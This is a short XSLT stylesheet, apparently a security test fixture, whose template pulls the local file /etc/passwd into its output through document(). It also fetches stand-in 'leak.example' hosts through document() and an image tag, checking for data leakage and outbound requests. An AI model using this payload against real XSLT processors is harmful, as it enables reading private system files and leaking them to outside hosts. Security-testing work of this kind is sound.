<?xml version="1.0"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/">
    <html xmlns="http://www.w3.org/1999/xhtml"><body>
      <p><xsl:copy-of select="document('file:///etc/passwd')"/><xsl:copy-of select="document('https://xslt.named.leak.example/')"/></p>
      <img src="https://xslt-image.named.leak.example/"/>
    </body></html>
  </xsl:template>
</xsl:stylesheet>
